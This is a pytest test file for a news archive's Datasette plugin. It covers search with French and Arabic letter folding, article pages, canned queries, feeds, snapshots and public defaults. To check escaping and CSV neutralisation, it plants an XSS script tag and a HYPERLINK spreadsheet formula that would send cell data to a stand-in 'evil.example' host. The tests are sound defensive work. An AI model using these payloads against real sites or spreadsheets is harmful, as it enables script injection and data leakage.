"""Publishing: the archive's Datasette plugin and pages (through Datasette's test client), the canned
queries on an empty and on the bundled archive, feeds, public defaults (hidden tables, escaping, CSV
safe against formula injection, SQL switch) and snapshots."""

import asyncio
import csv
import io
import json
import re
import sqlite3
import threading
from html import unescape

import feedparser
import pytest

from crawler import publish
from crawler.datasette_plugin import CsvGuard, highlight, neutralise, paper, paragraphs, snippet, query_terms
from crawler.publish import PublishError, metadata, snapshot
from crawler.storage import Archive
from tests.conftest import SEED_URL, query

AR_URL = "https://www.maghress.com/hespress/606"
AR_ORIGINAL = "https://www.hespress.com/politique/1590321.html"
XSS = "<script>alert(1)</script>"
XSS_URL = "https://www.maghress.com/fr/lesechos/9001"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def fetch(db, *paths, **options):
    """GET each path from a fresh Datasette on db (as `newsarchive serve` configures it)."""

    async def run():
        ds = publish.datasette(db, **options)
        return [await ds.client.get(path) for path in paths]

    responses = asyncio.run(run())
    return responses[0] if len(paths) == 1 else responses


def visible_text(html):
    """What a reader sees, roughly: tags dropped (marks kept as [[...]]), entities decoded, spaces squeezed."""
    html = re.sub(r"(?s)<head>.*?</head>|<script.*?</script>|<svg.*?</svg>", " ", html)
    html = html.replace("<mark>", "[[").replace("</mark>", "]]")
    html = re.sub(r"</?(?:a|time|bdi|strong|span|code)\b[^>]*>", "", html)  # inline: no space
    return re.sub(r"\s+", " ", unescape(re.sub(r"<[^>]+>", " ", html))).strip()


def rows(db, path):
    response = fetch(db, path)
    assert response.status_code == 200, response.text[:500]
    return response.json()


@pytest.fixture(scope="module")
def db(bundled):
    return bundled[0]


@pytest.fixture(scope="module")
def empty(tmp_path_factory):
    """A freshly migrated archive with nothing in it."""
    path = tmp_path_factory.mktemp("empty") / "archive.db"
    Archive(path).close()
    return path


@pytest.fixture(scope="module")
def extra(db, tmp_path_factory):
    """A snapshot of the bundled archive plus hostile and changed rows, written through the storage
    layer (so the search index follows): a headline and an article with markup, a formula headline,
    an "Élections" headline, a second version of the seed article, and (when the tables exist)
    duplicate groups and stories."""
    path = snapshot(db, tmp_path_factory.mktemp("extra") / "archive.db")
    archive = Archive(path)
    try:
        seen = "2025-09-05T10:00:00Z"
        archive.save_headlines([
            {"text": f"{XSS} Élections législatives : le calendrier", "key": "xss", "url": None, "seen_at": seen},
            {"text": FORMULA, "key": "formula", "url": None, "seen_at": seen},
        ])
        seed = archive.query("SELECT * FROM articles WHERE url = ?", [SEED_URL])[0]
        article = {"original_url": None, "image_url": None, "capture": None, "parser_version": "test"}
        archive.save_articles([
            {**article, "url": XSS_URL, "title": f"{XSS} Élections : le bulletin", "publisher": "<i>Evil</i> Press",
             "published": "2025-09-05", "language": "fr", "body": f"Premier paragraphe {XSS}.\n\nSecond <b>paragraphe</b>.",
             "content_hash": "xss", "seen_at": seen},
            {**article, "url": SEED_URL, "title": seed["title"], "publisher": seed["publisher"],
             "published": seed["published"], "language": "fr", "body": "Un texte corrigé sur la métropole.",
             "content_hash": "changed", "seen_at": "2026-12-01T00:00:00Z"},
        ])
        tables = {r["name"] for r in archive.query("SELECT name FROM sqlite_master WHERE type = 'table'")}
        if "article_groups" in tables:
            archive.db.execute("DELETE FROM article_groups")
            archive.db.conn.executemany(
                "INSERT INTO article_groups (url, grp, similarity, method, first_seen) VALUES (?, ?, ?, ?, ?)",
                [(SEED_URL, SEED_URL, 1.0, "first", "2025-09-04T00:00:00Z"),
                 ("https://www.maghress.com/fr/lagazette/202", SEED_URL, 0.91, "near", "2025-09-04T01:00:00Z")])
        if "stories" in tables:
            ids = [r["id"] for r in archive.query("SELECT id FROM headlines ORDER BY id LIMIT 3")]
            archive.db.execute("DELETE FROM stories")
            archive.db.conn.executemany("INSERT INTO stories (headline, story, similarity) VALUES (?, ?, ?)",
                                   [(ids[0], ids[0], 1.0), (ids[1], ids[0], 0.8), (ids[2], ids[2], 1.0)])
        archive.db.conn.commit()
    finally:
        archive.close()
    return path


def facts(db):
    """What the archive holds, counted directly (the bundled mirror's figures may change)."""
    conn = sqlite3.connect(db)
    try:
        one = lambda sql, *args: conn.execute(sql, args).fetchone()[0]  # noqa: E731
        return {
            "articles": one("SELECT count(*) FROM articles"),
            "fr": one("SELECT count(*) FROM articles WHERE language = 'fr'"),
            "ar": one("SELECT count(*) FROM articles WHERE language = 'ar'"),
            "papers": one("SELECT count(DISTINCT publisher) FROM articles"),
            "headlines": one("SELECT count(*) FROM headlines"),
            "first": one("SELECT min(published) FROM articles"),
            "last": one("SELECT max(published) FROM articles"),
            "metropole": one("SELECT count(*) FROM search_fts WHERE search_fts MATCH '\"metropole\"'"),
        }
    finally:
        conn.close()


def has_table(db, table):
    conn = sqlite3.connect(db)
    try:
        return conn.execute("SELECT 1 FROM sqlite_master WHERE name = ?", [table]).fetchone() is not None
    finally:
        conn.close()


# --- the home page ---------------------------------------------------------------------------------------------
def test_home_page_says_what_the_archive_holds(db):
    response = fetch(db, "/")
    assert response.status_code == 200
    text = visible_text(response.text)
    f = facts(db)
    assert (f"This archive holds {f['articles']} articles ({f['fr']} in French, {f['ar']} in Arabic) from "
            f"{f['papers']} papers, published from {f['first']} to {f['last']}, and {f['headlines']} ticker "
            "headlines, crawled from www.maghress.com.") in text
    assert "Last crawl: #2 started" in text and "10 pages" in text
    html = response.text
    for link in ("/-/search", "/-/charts", "/archive/latest_headlines", "/archive/ticker_at",
                 "/archive/articles_per_publisher_per_day", "/archive/changed_articles", "/archive/crawl_health",
                 "/archive/failures_by_reason", "/archive/latest_articles_feed.atom",
                 f"/-/article?url={SEED_URL.replace(':', '%3A').replace('/', '%2F')}"):
        assert f'href="{link}' in html, link
    assert '<svg class="na-chart"' in html  # headlines per day per paper


def test_home_page_of_an_empty_archive(empty):
    text = visible_text(fetch(empty, "/").text)
    assert "This archive holds 0 articles (0 in French, 0 in Arabic) from 0 papers, and 0 ticker headlines." in text
    assert "No crawl yet" in text and "No article yet." in text


# --- search ---------------------------------------------------------------------------------------------------
def search(db, q, **params):
    query = "&".join(f"{k}={v}" for k, v in {"q": q, **params}.items())
    response = fetch(db, f"/-/search?{query}")
    assert response.status_code == 200
    return response.text


def test_french_search_folds_accents_and_highlights_the_original_words(db):
    html = search(db, "metropole")
    assert f"{facts(db)['metropole']} results for" in visible_text(html)
    first = html.index('class="na-result na-article"')
    assert "<mark>métropole</mark>" in html[first:]
    assert 'Casablanca Smart City: La <mark>métropole</mark> sur le bon chemin' in html
    assert search(db, "MÉTROPOLE") .count("<mark>métropole</mark>") == html.count("<mark>métropole</mark>")


def test_elections_finds_accented_capital(extra):
    html = search(extra, "elections")
    assert "<mark>Élections</mark> législatives" in html
    assert "<mark>Élections</mark> : le bulletin" in html


@pytest.mark.parametrize("query, marked", [
    ("الحكومه", "الحكومة"),      # ta marbuta ة / ه
    ("الاطار", "الإطار"),        # alef with hamza below / bare alef
    ("الي", "إلى"),              # alef forms and alef maqsura ى / ya ي
    ("الحـكـومة", "الحكومة"),    # tatweel ignored
    ("الحُكُومَة", "الحكومة"),     # diacritics ignored
])
def test_arabic_search_folds_letter_variants(db, query, marked):
    html = search(db, query)
    assert f"<mark>{marked}</mark>" in html
    assert f'href="/-/article?url={AR_URL.replace(":", "%3A").replace("/", "%2F")}"' in html
    assert 'lang="ar" dir="rtl"' in html


def test_search_ranks_articles_then_headlines_by_relevance(db):
    results = rows(db, "/archive/search.json?_shape=array&q=casablanca")
    kinds = [r["kind"] for r in results]
    assert kinds == sorted(kinds)  # articles first
    for kind in ("article", "headline"):
        ranks = [r["rank"] for r in results if r["kind"] == kind]
        assert ranks == sorted(ranks) and ranks
    assert {r["url"] for r in results if r["kind"] == "article"} >= {
        SEED_URL, "https://www.maghress.com/fr/lagazette/202"}


def test_search_takes_any_input(db):
    for q in ('"', "AND OR NEAR(", "title:x*", "  ", "<b>"):
        html = search(db, q.replace("&", "%26"))
        assert "Search the archive" in html
    assert "No result for" in visible_text(search(db, "zzzzqqq"))


def test_search_pages_and_kinds(db):
    text = visible_text(search(db, "le", kind="headline"))
    assert re.search(r"\d+ results for", text) and "page 1 of" in text
    html = search(db, "le", kind="headline", page=2)
    assert 'class="na-result na-article"' not in html and 'class="na-result na-headline"' in html


def test_search_as_json_csv_and_atom(db):
    found = rows(db, "/archive/search.json?_shape=array&q=metropole")
    assert len(found) == facts(db)["metropole"]
    assert (found[0]["kind"], found[-1]["kind"]) == ("article", "headline")
    assert SEED_URL in [r["url"] for r in found if r["kind"] == "article"]
    body = fetch(db, "/archive/search.csv?q=الاطار").text
    assert AR_URL in body
    feed = feedparser.parse(fetch(db, "/archive/search_feed.atom?q=metropole").text)
    assert not feed.bozo
    assert len(feed.entries) == len(found) and SEED_URL in {e.link for e in feed.entries}
    nothing = feedparser.parse(fetch(db, "/archive/search_feed.atom?q=zzzzqqq").text)
    assert [e.title for e in nothing.entries] == ["Nothing matches “zzzzqqq” yet"]


def test_highlight_and_snippet_escape_and_mark():
    terms = query_terms("Elections")
    assert highlight(f"{XSS} Élections", terms) == (
        "&lt;script&gt;alert(1)&lt;/script&gt; <mark>Élections</mark>")
    long = " ".join(["mot"] * 100 + ["élections"] + ["fin"] * 100)
    cut = snippet(long, terms)
    assert cut.startswith("… ") and cut.endswith(" …") and "<mark>élections</mark>" in cut
    assert paragraphs("Un.\n\n  Deux\nlignes.\n\n\n") == ["Un.", "Deux lignes."]
    assert paper("https://www.maghress.com/fr/lesechos/101") == "lesechos"
    assert paper("https://www.maghress.com/hespress/606") == "hespress"
    assert paper("https://www.maghress.com/fr") is None and paper(None) is None


# --- article pages --------------------------------------------------------------------------------------------------
def article(db, url, **params):
    query = "&".join(f"{k}={v}" for k, v in {"url": url, **params}.items())
    return fetch(db, f"/-/article?{query}")


def test_french_article_page(db):
    response = article(db, SEED_URL)
    assert response.status_code == 200
    html = response.text
    body = re.search(r'(?s)<article class="na-article" lang="fr" dir="ltr">(.*?)</article>', html).group(1)
    assert body.count("<p>") == 14  # the 14 paragraphs (the byline has a class)
    assert "<h1>Casablanca Smart City: La métropole sur le bon chemin pour devenir une ville intelligente</h1>" in body
    assert 'class="na-publisher">Maroc Diplomatique<' in body and '<time dir="ltr" datetime="2017-07-12">' in body
    assert f'<a class="na-source" href="{SEED_URL}"' in html
    assert "/archive/article_history?url=" in html


def test_arabic_article_page_is_right_to_left(db):
    html = article(db, AR_URL).text
    body = re.search(r'(?s)<article class="na-article" lang="ar" dir="rtl">(.*?)</article>', html).group(1)
    assert body.count("<p>") == 3  # the 3 paragraphs
    assert "هسبريس" in body and "2025-09-03" in body
    assert f'<a class="na-original" href="{AR_ORIGINAL}"' in html
    assert "الحكومة تصادق على مشروع قانون جديد لتنظيم قطاع النقل الطرقي" in visible_text(html)


def test_article_page_shows_versions(extra):
    html = article(extra, SEED_URL).text
    assert "Showing version 2 of 2." in visible_text(html)
    assert "Un texte corrigé sur la métropole." in html
    old = article(extra, SEED_URL, version=1).text
    assert "Showing version 1 of 2." in visible_text(old) and "Faire de Casablanca une Smart City" in old
    assert article(extra, SEED_URL, version=9).status_code == 404


def test_article_page_shows_its_duplicate_group(extra):
    if not has_table(extra, "article_groups"):
        pytest.skip("no article_groups table yet (duplicate detection not merged)")
    html = article(extra, SEED_URL).text
    text = visible_text(html)
    assert "The same article appears once more:" in text
    assert "Eau potable : la station de dessalement de Casablanca entre dans sa phase finale" in text
    assert "near (0.91)" in text
    assert "first seen" in visible_text(article(extra, "https://www.maghress.com/fr/lagazette/202").text)


def test_unknown_article_is_404(db):
    response = article(db, "https://www.maghress.com/fr/nowhere/1")
    assert response.status_code == 404
    assert "No archived article at https://www.maghress.com/fr/nowhere/1" in response.text


# --- canned queries -------------------------------------------------------------------------------------------------
QUERIES = metadata("archive.db")["databases"]["archive"]["queries"]


def missing_tables(db, sql):
    names = set(re.findall(r"\b(?:FROM|JOIN)\s+([a-z_]+)", sql))
    return sorted(t for t in names if t in ("article_groups", "stories") and not has_table(db, t))


@pytest.mark.parametrize("name", sorted(QUERIES))
def test_every_canned_query_runs_on_an_empty_archive(empty, name):
    if missing := missing_tables(empty, QUERIES[name]["sql"]):
        pytest.skip(f"tables not in the schema yet: {', '.join(missing)}")
    data = rows(empty, f"/archive/{name}.json?q=metropole&url={SEED_URL}&at=2030-01-01T00:00:00Z")
    assert data["ok"] is True
    feeds = {"search_feed": 1, "latest_articles_feed": 1}  # an empty feed says so in one entry
    assert len(data["rows"]) == feeds.get(name, 0)


@pytest.mark.parametrize("name", sorted(QUERIES))
def test_every_canned_query_runs_on_the_bundled_archive(db, name):
    if missing := missing_tables(db, QUERIES[name]["sql"]):
        pytest.skip(f"tables not in the schema yet: {', '.join(missing)}")
    data = rows(db, f"/archive/{name}.json?q=metropole&url={SEED_URL}&at=2999-01-01T00:00:00Z")
    assert data["ok"] is True
    if name not in ("changed_articles", "most_reported_stories", "duplicate_groups"):
        assert data["rows"], name


def test_articles_per_publisher_per_day(db):
    data = rows(db, "/archive/articles_per_publisher_per_day.json?_shape=array")
    assert sum(r["articles"] for r in data) == facts(db)["articles"]
    assert {"day": "2025-09-03", "publisher": "هسبريس", "articles": 1} in data


def test_headlines_per_day_per_publisher(db):
    data = rows(db, "/archive/headlines_per_day_per_publisher.json?_shape=array")
    conn = sqlite3.connect(db)
    expected = conn.execute(
        "SELECT count(*) FROM (SELECT DISTINCT substr(seen_at, 1, 10), headline FROM headline_sightings)").fetchone()[0]
    conn.close()
    assert sum(r["headlines"] for r in data) == expected
    assert "Maroc Diplomatique" in {r["publisher"] for r in data}  # a name where the paper has an archived article


def test_crawl_health_and_failures(db):
    runs = rows(db, "/archive/crawl_health.json?_shape=array")
    crawls = {r["id"]: r for r in query(db, "SELECT * FROM crawls")}
    assert [(r["id"], r["outcome"], r["pages"], r["skipped"]) for r in runs] == [
        (n, "finished", crawls[n]["pages_fetched"], sum(json.loads(crawls[n]["skipped"]).values())) for n in (2, 1)]
    assert all(r["pages"] > 0 for r in runs)
    reasons = {(r["outcome"], r["reason"]): r for r in rows(db, "/archive/failures_by_reason.json?_shape=array")}
    assert reasons[("skipped", "not_in_mirror")]["urls"] == sum(
        json.loads(c["skipped"]).get("not_in_mirror", 0) for c in crawls.values())
    assert reasons[("skipped", "robots_forbidden")]["crawls"] == 2
    failing = rows(db, "/archive/failing_urls.json?_shape=array")
    assert {"robots_forbidden", "not_in_mirror"} == {r["reason"] for r in failing}
    volume = rows(db, "/archive/crawl_volume.json?_shape=array")
    assert [(r["crawl"], r["pages"]) for r in volume] == [(n, crawls[n]["pages_fetched"]) for n in (2, 1)]


def test_changed_articles_lists_the_new_version(extra):
    data = rows(extra, "/archive/changed_articles.json?_shape=array")
    assert [(r["url"], r["old_version"], r["new_version"]) for r in data] == [(SEED_URL, 1, 2)]


def test_most_reported_stories_and_duplicate_groups(extra):
    if not (has_table(extra, "stories") and has_table(extra, "article_groups")):
        pytest.skip("no stories / article_groups tables yet")
    stories = rows(extra, "/archive/most_reported_stories.json?_shape=array")
    assert [r["headlines"] for r in stories] == [2, 1]
    groups = rows(extra, "/archive/duplicate_groups.json?_shape=array")
    assert [(g["first_url"], g["articles"], g["papers"]) for g in groups] == [(SEED_URL, 2, 2)]


# --- feeds ------------------------------------------------------------------------------------------------------------
def test_atom_feed_of_the_latest_articles(db, empty):
    feed = feedparser.parse(fetch(db, "/archive/latest_articles_feed.atom").text)
    assert not feed.bozo and feed.feed.title == "Atom feed: the latest articles"
    assert len(feed.entries) == facts(db)["articles"]
    assert {e.link for e in feed.entries} >= {SEED_URL, AR_URL}
    assert {e.author for e in feed.entries} >= {"Maroc Diplomatique", "هسبريس"}
    nothing = feedparser.parse(fetch(empty, "/archive/latest_articles_feed.atom").text)
    assert [e.title for e in nothing.entries] == ["The archive holds no article yet"]


# --- charts ---------------------------------------------------------------------------------------------------------------
def test_charts_page(db, empty):
    html = fetch(db, "/-/charts").text
    assert html.count('<svg class="na-chart"') == 3
    for title in ("Headlines on the ticker per day, by paper", "Crawl volume", "Articles per month"):
        assert title in html
    assert "/archive/crawl_volume.json" in html and "/archive/crawl_volume.csv" in html
    assert "Nothing to chart yet." in fetch(empty, "/-/charts").text


# --- public defaults -------------------------------------------------------------------------------------------------
def test_internal_tables_are_hidden_but_readable(db):
    tables = {t["name"]: t["hidden"] for t in rows(db, "/archive.json")["tables"]}
    for name in ("captures", "urls", "search_fts", "search_fts_data", "_sqlite_migrations"):
        assert tables[name] is True, name
    for name in ("articles", "headlines", "headline_sightings", "article_versions", "crawls"):
        assert tables[name] is False, name
    listed = visible_text(fetch(db, "/").text).split("Databases", 1)[1]
    assert "captures" not in listed and "urls" not in listed
    assert fetch(db, "/archive/captures.json").status_code == 200


def test_stored_text_is_escaped_everywhere(extra):
    pages = ["/", "/-/search?q=elections", f"/-/article?url={XSS_URL}", "/archive/headlines?_search=elections",
             "/archive/latest_headlines", "/-/charts", "/archive/articles?_sort_desc=first_seen"]
    for path, response in zip(pages, fetch(extra, *pages)):
        assert response.status_code == 200, path
        assert XSS not in response.text, path
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in response.text or "&lt;i&gt;Evil" in response.text, path
        assert "<i>Evil</i>" not in response.text and "<b>paragraphe</b>" not in response.text, path


def test_csv_is_safe_against_formula_injection(extra):
    for path in ("/archive/headlines.csv?_sort=id", "/archive/headlines.csv?_stream=1&_size=7&_sort=id",
                 "/archive/latest_headlines.csv"):
        table = list(csv.reader(io.StringIO(fetch(extra, path).text)))
        texts = [row[table[0].index("text")] for row in table[1:]]
        assert "'" + FORMULA in texts, path
        assert not any(t.startswith(("=", "+", "-", "@")) for t in texts), path
        assert "Les températures attendues ce jeudi 4 septembre 2025" in texts
    ranks = list(csv.DictReader(io.StringIO(fetch(extra, "/archive/search.csv?q=casablanca").text)))
    assert ranks and all(float(r["rank"]) < 0 for r in ranks)  # negative numbers are left as numbers


def test_csv_guard_streams_records_split_anywhere():
    data = 'id,text\r\n1,"=1+2"\r\n2,"multi\r\nline ""=x"""\r\n3,-4.5\r\n4,@SUM(A1)\r\n5,né\r\n'.encode()
    guard = CsvGuard()
    out = b"".join(guard.feed(data[i:i + 1]) for i in range(len(data))) + guard.feed(b"", final=True)
    assert list(csv.reader(io.StringIO(out.decode(), newline=""))) == [
        ["id", "text"], ["1", "'=1+2"], ["2", 'multi\r\nline "=x"'], ["3", "-4.5"], ["4", "'@SUM(A1)"], ["5", "né"]]
    assert neutralise("+33 6 12") == "'+33 6 12" and neutralise("-12") == "-12" and neutralise("a=b") == "a=b"


def test_settings_limit_time_and_rows(db):
    settings = rows(db, "/-/settings.json")
    assert settings["sql_time_limit_ms"] == 3000 and settings["max_returned_rows"] == 1000
    assert "settings" not in rows(db, "/-/metadata.json")


def test_arbitrary_sql_can_be_switched_off(db):
    on = fetch(db, "/archive.json?sql=select+count(*)+from+articles")
    assert on.status_code == 200
    off = fetch(db, "/archive.json?sql=select+1", "/archive/latest_headlines.json", "/-/search?q=metropole",
                "/-/article?url=" + SEED_URL, allow_sql=False)
    assert [r.status_code for r in off] == [403, 200, 200, 200]
    args = publish.serve_args(db, "127.0.0.1", 8001, "m.json", allow_sql=False)
    assert args[args.index("default_allow_sql") + 1] == "off"


def test_snapshot_is_served_immutably(db, tmp_path):
    out = snapshot(db, tmp_path / "public.db")
    databases = fetch(out, "/-/databases.json", immutable=True).json()
    assert [(d["name"], d["is_mutable"]) for d in databases] == [("public", False)]
    assert "metropole" in fetch(out, "/-/search?q=metropole", immutable=True).text
    args = publish.serve_args(out, "127.0.0.1", 8001, "m.json", immutable=True)
    assert args[:3] == ["serve", "-i", str(out)]


# --- snapshots ------------------------------------------------------------------------------------------------------
def test_snapshot_refuses_to_overwrite(db, tmp_path):
    out = tmp_path / "snap.db"
    out.write_text("not mine")
    with pytest.raises(PublishError, match=r"^.*snap\.db exists: choose another file, or overwrite it with --overwrite$"):
        snapshot(db, out)
    assert out.read_text() == "not mine"
    snapshot(db, out, overwrite=True)
    assert facts(out) == facts(db)
    with pytest.raises(PublishError, match="is the archive itself"):
        snapshot(db, db, overwrite=True)
    with pytest.raises(PublishError, match="no archive at"):
        snapshot(tmp_path / "none.db", tmp_path / "x.db")


def test_snapshot_is_consistent_while_another_connection_writes(db, tmp_path):
    live = snapshot(db, tmp_path / "live.db")
    conn = sqlite3.connect(live, isolation_level=None)
    conn.execute("PRAGMA journal_mode = WAL")
    conn.execute("CREATE TABLE pairs_a (n INTEGER)")
    conn.execute("CREATE TABLE pairs_b (n INTEGER)")
    conn.close()
    stop = threading.Event()
    written = []

    def writer():  # each transaction adds one row to both tables: a consistent copy has equal counts
        w = sqlite3.connect(live, isolation_level=None, timeout=30)
        n = 0
        while not stop.is_set():
            w.execute("BEGIN IMMEDIATE")
            w.execute("INSERT INTO pairs_a VALUES (?)", [n])
            w.execute("INSERT INTO pairs_b VALUES (?)", [n])
            w.execute("COMMIT")
            n += 1
        w.close()
        written.append(n)

    thread = threading.Thread(target=writer)
    thread.start()
    try:
        copies = [snapshot(live, tmp_path / f"copy{i}.db") for i in range(3)]
    finally:
        stop.set()
        thread.join()
    holder = sqlite3.connect(live, isolation_level=None, timeout=30)
    holder.execute("BEGIN IMMEDIATE")  # a transaction not committed yet is not in the copy
    holder.execute("INSERT INTO crawls (started, source) VALUES ('2030-01-01T00:00:00Z', 'uncommitted')")
    try:
        copies.append(snapshot(live, tmp_path / "copy-during-write.db"))
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert written[0] > 0
    counts = []
    for copy in copies:
        assert not (tmp_path / f"{copy.name}-wal").exists()
        c = sqlite3.connect(copy)
        assert c.execute("PRAGMA journal_mode").fetchone()[0] == "delete"
        assert c.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        a, b = (c.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in ("pairs_a", "pairs_b"))
        assert a == b
        counts.append(a)
        assert c.execute("SELECT count(*) FROM crawls WHERE source = 'uncommitted'").fetchone()[0] == 0
        assert c.execute("SELECT count(*) FROM articles").fetchone()[0] == facts(db)["articles"]
        c.close()
    assert counts[-1] == written[0]  # the last copy has every committed pair
    assert not list(tmp_path.glob(".*.tmp"))


STANDALONE = """
import asyncio, json, sys
sys._called_from_test = True  # Datasette loads no installed plugin: only the plugins folder's
from datasette.app import Datasette

async def main(db, site):
    ds = Datasette(immutables=[db], metadata=json.load(open(site + "/metadata.json")),
                   plugins_dir=site + "/plugins", template_dir=site + "/templates",
                   settings={"default_allow_sql": False})
    search = await ds.client.get("/-/search?q=metropole")
    rows = (await ds.client.get("/public/search.json?_shape=array&q=الحكومه")).json()
    home = await ds.client.get("/")
    sql = await ds.client.get("/public.json?sql=select+1")
    print(json.dumps({"marked": "<mark>métropole</mark>" in search.text, "urls": [r["url"] for r in rows],
                      "home": "This archive holds" in home.text, "sql": sql.status_code,
                      "crawler": sorted(m for m in sys.modules if m.split(".")[0] in ("crawler", "pipelines"))}))

asyncio.run(main(sys.argv[1], sys.argv[2]))
"""


def test_datasette_files_serve_a_snapshot_without_this_package(db, tmp_path):
    """What `datasette publish` gets (snapshot, metadata.json, plugins/, templates/) works without
    the newsarchive package: the plugin file is self-contained."""
    import subprocess
    import sys

    out = snapshot(db, tmp_path / "public.db")
    site = publish.write_datasette_files(out, tmp_path / "site")
    assert sorted(p.name for p in site.iterdir()) == ["metadata.json", "plugins", "templates"]
    result = subprocess.run([sys.executable, "-c", STANDALONE, str(out), str(site)], cwd=tmp_path,
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr[-2000:]
    report = json.loads(result.stdout.strip().splitlines()[-1])
    assert report == {"marked": True, "urls": report["urls"], "home": True, "sql": 403, "crawler": []}
    assert AR_URL in report["urls"]
